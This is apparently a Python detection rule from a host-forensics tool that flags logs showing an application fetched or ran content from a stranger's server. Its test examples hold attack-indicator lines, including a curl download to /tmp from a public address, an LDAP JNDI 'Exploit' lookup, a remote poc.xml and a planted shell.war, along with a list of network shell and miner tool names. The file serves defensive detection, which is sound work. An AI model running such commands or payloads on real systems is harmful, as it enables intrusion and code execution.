# ruff: noqa: S108 — paths on the examined host, not ours.
"""What an application was made to fetch or run, by its own log or a web server's error log."""

import re
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime

from hemostat.detect.check import check, fires, quiet
from hemostat.detect.commands_of_daemons import is_loose, reason_of
from hemostat.detect.log_ins import is_public, observables_of, time_text
from hemostat.detect.names import words
from hemostat.detect.observables import observables_in
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath, name
from hemostat.model.records import DaemonEvent
from hemostat.model.text import Text
from hemostat.parse.host.shell_text_observables import addresses_in

TEXTS = RuleTexts(
    title=Text(
        en="An application's log shows that it fetched or ran what a stranger sent",
        zh="应用日志显示其获取或执行了外来内容",
    ),
    summary=Text(
        en="{where}, {time}: {kind} {target}: {command}",
        zh="{where}，{time}：{kind} {target}：{command}",
    ),
    benign=Text(
        en="A test of security, or an application that fetches by design from a server of yours.",
        zh="安全测试，或应用按设计从自有服务器获取内容。",
    ),
)
# What a page's children print lands here; in logs of installers and jobs the same is ordinary.
_OF_WEB = re.compile(
    r"error|php|catalina|localhost|confluence|activemq|weblogic|solr|jboss|wildfly|jenkins|nacos"
    r"|\bservers?/|geoserver|jetty|spring",
    re.IGNORECASE,
)
_ODD_NAMES = words("nc ncat netcat socat whoami id uname ifconfig xmrig chattr nohup")
_WHEN = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)


def _event(
    kind: str, target: str = "", command: str = "", path: str = "/var/log/httpd/error_log"
) -> DaemonEvent:
    return DaemonEvent(
        source=Source(path=HostPath(path), line=3),
        log="text",
        service="application",
        kind=kind,
        time=_WHEN,
        target=target,
        command=command,
    )


@check(
    "linux.application.made-to-run-code",
    level=Level.HIGH,
    confidence=Level.MEDIUM,
    category="application_code",
    attack=("T1190", "T1059"),
    incident_types=("web_intrusion", "webshell", "remote_control", "mining"),
    texts=TEXTS,
    next=("keep-evidence", "find-entry", "isolate-host", "check-other-hosts"),
    by_hand="grep -anE 'Cannot run program|XmlApplicationContext|JNDI|Saving to|not found' {place}",
    examples=(
        fires(_event("remote_config", "http://198.51.100.4/poc.xml")),
        fires(_event("program_run", command="curl http://198.51.100.4/x -o /tmp/x")),
        fires(_event("lookup", "ldap://198.51.100.4:1389/Exploit")),
        fires(_event("saved", "/tmp/.x")),
        fires(_event("fetched", "http://198.51.100.4/shell.txt")),
        fires(_event("shell_talk", command="uid=33(www-data) gid=33(www-data)")),
        fires(_event("shell_error", "/dev/shm/a", "sh: 1: /dev/shm/a: Permission denied")),
        fires(_event("deployed", "/tmp/shell.war")),
        quiet(_event("deployed", "/opt/tomcat/webapps/ROOT.war")),
        quiet(_event("program_run", command="convert")),
        quiet(_event("fetched", "http://198.51.100.4/x", path="/var/log/cloud-init-output.log")),
        quiet(_event("saved", "/tmp/pkg.deb", path="/var/log/provision.log")),
        quiet(_event("shell_error", "sendmail", "sh: 1: sendmail: not found")),
        quiet(_event("remote_config", "http://www.springframework.org/schema/beans.xsd")),
        quiet(_event("lookup", "ldap://dc1.corp.example:389/ou=people")),
    ),
)
def application_made_to(events: Iterable[DaemonEvent]) -> Iterator[Claim]:
    """Settings or code taken from a stranger's server, or shell tools that a page started."""
    found: dict[tuple[HostPath, str], list[DaemonEvent]] = {}
    levels: dict[tuple[HostPath, str], Level] = {}
    for event in events:
        level = _level(event) if event.service == "application" else None
        if level is not None:
            key = event.source.path, event.kind
            found.setdefault(key, []).append(event)
            levels[key] = max(level, levels.get(key, level))
    for key, each in found.items():
        yield _claim(each, levels[key])


def _level(event: DaemonEvent) -> Level | None:
    is_web = bool(_OF_WEB.search(event.source.path))
    target = event.target
    match event.kind:
        case "remote_config":
            return Level.HIGH if _is_strange(target) else None
        case "lookup":
            return Level.MEDIUM if _is_strange(target) else None
        case "program_run":
            return Level.HIGH if reason_of(event.command) else None
        case "deployed":
            return Level.HIGH if is_loose(target) else None
        case "shell_talk":
            return Level.HIGH if is_web else None
        case "fetched":
            return Level.MEDIUM if is_web and _is_strange(target) else None
        case "saved":
            return Level.MEDIUM if is_web and is_loose(target) else None
        case "shell_error":
            is_odd = is_loose(target) or name(target) in _ODD_NAMES or reason_of(target)
            return Level.MEDIUM if is_web and is_odd else None
        case _:
            return None


def _is_strange(url: str) -> bool:
    """Whether it names a bare address of the internet, as no maker of software does."""
    return any(is_public(each) for each in addresses_in(url))


def _claim(events: list[DaemonEvent], level: Level) -> Claim:
    first = events[0]
    place = first.source.path
    times = [each.time for each in events if each.time]
    techniques = {
        "T1105": first.kind in ("fetched", "saved", "remote_config"),
        "T1059.004": first.kind.startswith("shell") or first.kind == "program_run",
        "T1505.003": first.kind == "deployed",
    }
    return Claim(
        subjects=(Subject("file", place),),
        because=tuple(events[:8]),
        values={
            "where": f"{place}:{first.source.line}",
            "place": place,
            "time": time_text(min(times, default=None)),
            "kind": first.kind,
            "target": first.target,
            "command": first.command[:300],
        },
        level=level,
        attack=tuple(each for each, is_seen in techniques.items() if is_seen),
        observables=tuple(
            o
            for each in events[:20]
            for o in (
                *observables_in(f"{each.target} {each.command}"),
                *observables_of(each.address),
            )
        ),
        first_seen=min(times, default=None),
        last_seen=max(times, default=None),
    )
